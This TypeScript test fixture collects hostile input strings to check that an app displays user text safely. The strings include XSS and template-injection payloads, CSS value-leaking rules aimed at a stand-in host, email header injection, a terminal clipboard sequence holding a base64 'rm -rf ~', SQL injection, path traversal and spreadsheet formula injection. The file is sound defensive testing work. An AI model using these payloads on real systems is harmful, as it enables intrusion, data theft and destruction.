import { FOREIGN, FOREIGN_HOST, hostileMarkup, RUN } from './hostile-markup.ts'

/** The property of React that takes markup; a guard refuses the name in one piece. */
const REACT_MARKUP = ['dangerously', 'SetInnerHTML'].join('')

/**
 * More than 300 texts of users that try to be run, obeyed or believed instead of shown. No text has a NUL,
 * because the edge refuses it.
 */
export function hostileTexts(): readonly string[] {
  return [
    ...hostileMarkup(),
    ...breakouts(),
    ...templates(),
    ...markdown(),
    ...styles(),
    ...entities(),
    ...directions(),
    ...mails(),
    ...sentences(),
    ...terminals(),
    ...objects(),
  ]
}

/** A part of them with some of each kind. */
export function someHostileTexts(): readonly string[] {
  return hostileTexts().filter((_, index) => index % 16 === 0)
}

function breakouts(): string[] {
  return [
    `</script><script>${RUN}</script>`,
    `"};${RUN};//`,
    `'};${RUN};//`,
    `\\"};${RUN};//`,
    `";${RUN};"`,
    `';${RUN};'`,
    `\`;${RUN};\``,
    `\${${RUN}}`,
    `-${RUN}-`,
    `"-${RUN}-"`,
    `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
    `\\x3cimg src=x onerror=${RUN}\\x3e`,
    `\u2028${RUN}\u2029`,
    `*/${RUN}/*`,
    `-->${RUN}<!--`,
    `]]>${RUN}`,
    `{"__html":"<img src=x onerror=${RUN}>"}`,
    `{"${REACT_MARKUP}":{"__html":"<img src=x onerror=${RUN}>"}}`,
    `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${RUN}"}}`,
    `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  ]
}

function templates(): string[] {
  return [
    `{{constructor.constructor('${RUN}')()}}`,
    `{{${RUN}}}`,
    `{{{${RUN}}}}`,
    `\${{${RUN}}}`,
    `#{${RUN}}`,
    `<%= ${RUN} %>`,
    `<%- ${RUN} %>`,
    `@(${RUN})`,
    `[[${RUN}]]`,
    `{%raw%}${RUN}{%endraw%}`,
    `{$on.constructor('${RUN}')()}`,
    `<div v-html="${RUN}">`,
    `<div ng-app ng-init="constructor.constructor('${RUN}')()">`,
    `<x :is="script" src="data:,${RUN}">`,
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */onerror=${RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
    `'"><svg/onload=${RUN}>{{7*7}}\${7*7}<!--`,
    `"'--></style></script><img src=x onerror=${RUN}>`,
    `\`"'><img src=x onerror=${RUN}>//`,
    `1;${RUN}//"><b>{0}</b>%s%n`,
    `eval(atob('ZHVldENhbmFyeSgxKQ=='))`,
  ]
}

function markdown(): string[] {
  return [
    `[x](javascript:${RUN})`,
    `[x](data:text/html,<script>${RUN}</script>)`,
    `![x](x"onerror="${RUN})`,
    `![x](https:${FOREIGN}.png)`,
    `[x]: javascript:${RUN}`,
    `<javascript:${RUN}>`,
    `[x](https:${FOREIGN} "a" onmouseover="${RUN}")`,
    `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    `# <img src=x onerror=${RUN}>`,
    `| a |\n|---|\n| <svg onload=${RUN}> |`,
    `**<b onclick=${RUN}>x</b>**`,
    `$$\\href{javascript:${RUN}}{x}$$`,
    `:<img src=x onerror=${RUN}>:`,
    `@everyone <@1> <!here>`,
    `&lt;img src=x onerror=${RUN}&gt;`,
  ]
}

function styles(): string[] {
  return [
    `<style>@import url(https:${FOREIGN}.css)</style>`,
    `<style>*{background:url(https:${FOREIGN}.png)}</style>`,
    `<div style="position:fixed;inset:0;background:url(https:${FOREIGN}.png)">`,
    `";}*{background:url(https:${FOREIGN}.png)}`,
    `expression(${RUN})`,
    `red;background:url(javascript:${RUN})`,
    `url("https:${FOREIGN}.png")`,
    `'); background-image: url('https:${FOREIGN}.png`,
    `</style><img src=x onerror=${RUN}>`,
    `<style>input[value^=a]{background:url(https:${FOREIGN}?a)}</style>`,
    `\\75rl(https:${FOREIGN})`,
    `}@font-face{font-family:x;src:url(https:${FOREIGN}.woff)}`,
    `<xss style="behavior:url(https:${FOREIGN}.htc)">`,
    `--x:url(https:${FOREIGN})`,
    `fixed inset-0 z-50 bg-[url(https:${FOREIGN}.png)]`,
  ]
}

function entities(): string[] {
  return [
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&amp;lt;script&amp;gt;${RUN}`,
    `&#60;script&#62;${RUN}&#60;/script&#62;`,
    `&#x3c;img src=x onerror=${RUN}&#x3e;`,
    `&#0000060img src=x onerror=${RUN}>`,
    `&lt&lt;b&gt;&gt`,
    `&quot;&gt;&lt;img src=x onerror=${RUN}&gt;`,
    `&NewLine;&Tab;javascript&colon;${RUN}`,
    `&nbsp;&shy;&zwnj;`,
    `&apos; onmouseover=&apos;${RUN}`,
    `%3Cscript%3E${RUN}%3C/script%3E`,
    `%253Cimg%2520src=x%2520onerror=${RUN}%253E`,
    `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
    `<a>&amp;</a>`,
    `&`,
  ]
}

function directions(): string[] {
  const around = [
    ...['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068'],
    ...['\u200e', '\u200f', '\u061c', '\u200b', '\u2060', '\ufeff', '\u00ad'],
  ]
  return [
    ...around.map((character) => `a${character}gnp.exe${character}<b>z`),
    '\u202e)1(yranaCteud:tpircsavaj',
    '\u2067\u2067\u2067\u2067<img src=x>\u2069',
    '\u2069\u2069\u2069 admin',
    `\u202c\u202c${RUN}`,
    '\u0645\u0631\u062d\u0628\u0627 <b>abc</b> \u0639\u0627\u0644\u0645',
    'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306z',
    '\u{e0041}\u{e0042}x\u{e007f}',
    '\u180ex\u2061y\ufff9z\ufffb',
    '\ud83d\udc69\u200d\ud83d\udcbb<i>\ud83c\udff4\u200d\u2620\ufe0f',
    `\u0430dmin \u212Aelvin \uff1cb\uff1e`,
  ]
}

function mails(): string[] {
  return [
    `a\r\nBcc: victim@${FOREIGN_HOST}`,
    `a\nBcc: victim@${FOREIGN_HOST}\n\nbody`,
    `a\rSubject: other`,
    `a%0d%0aBcc: victim@${FOREIGN_HOST}`,
    `a\u0085Bcc: victim@${FOREIGN_HOST}`,
    `a\u2028Bcc: victim@${FOREIGN_HOST}`,
    `a\u000bBcc: victim@${FOREIGN_HOST}`,
    `=?utf-8?Q?a=0D=0ABcc:_x=40${FOREIGN_HOST}?=`,
    `=?utf-8?B?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=`,
    `=0D=0A.=0D=0AMAIL FROM:<x@${FOREIGN_HOST}>`,
    `\r\n.\r\nMAIL FROM:<x@${FOREIGN_HOST}>`,
    `x=\r\ny=3Cscript=3E${RUN}`,
    `"x" <victim@${FOREIGN_HOST}>, y@${FOREIGN_HOST}`,
    `\r\nContent-Type: text/html\r\n\r\n<script>${RUN}</script>`,
    `\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=${RUN}>`,
    `--\r\n_\r\n-- `,
    `</p></div><img src=https:${FOREIGN}.png><div><p>`,
    `</title><base href="https:${FOREIGN}">`,
    `</a><a href="https:${FOREIGN}">Press here`,
    `begin 644 x.txt\n#0V%T\n\`\nend`,
    `.`,
    `From x@${FOREIGN_HOST}`,
    `<!--[if mso]><script>${RUN}</script><![endif]-->`,
    `Hello\n\n\nYour account is closed`,
  ]
}

function sentences(): string[] {
  return [
    '{nick}',
    '{name}',
    '{link}',
    '{0}',
    '{nick',
    'nick}',
    '{{nick}}',
    '{nick, select, other {x}}',
    '{count, plural, one {x} other {#}}',
    '{n, number, ::currency/USD}',
    '{d, date, full}',
    "'{nick}'",
    "''",
    '#',
    '<b>tags</b>',
    `<link>press</link><link href="javascript:${RUN}">x</link>`,
    '<0>x</0>',
    '%s %d %n %x %c',
    '%1$s%2$s',
    '$t(password) $& $1 $` $$',
  ]
}

function terminals(): string[] {
  return [
    '\u001b[31mred',
    '\u001b[2J\u001b[H',
    '\u001b]0;title\u0007',
    `\u001b]8;;https:${FOREIGN}\u001b\\press\u001b]8;;\u001b\\`,
    '\u001b]52;c;cm0gLXJmIH4=\u0007',
    '\u001bP+q544e\u001b\\',
    '\u009b31m',
    '\u009d0;title\u009c',
    'a\rb',
    'abc\b\b\bxyz',
    '\u0007',
    '\u007f',
    '\u000c',
    '\u001b[1A\u001b[2Kok',
    '$(duetCanary) `duetCanary`; duetCanary | duetCanary',
  ]
}

function objects(): string[] {
  return [
    'constructor',
    '__proto__',
    'prototype',
    'toString',
    'null',
    'undefined',
    'NaN',
    '[object Object]',
    'true',
    '0',
    '-1',
    "'; drop table users; --",
    "' or '1'='1",
    '../../etc/passwd',
    '=1+1',
    '@SUM(1+1)',
    '+cmd|x!A0',
    '\t=1+1',
    '\u{1d4af}\u{1f3fd}',
    '<',
  ]
}
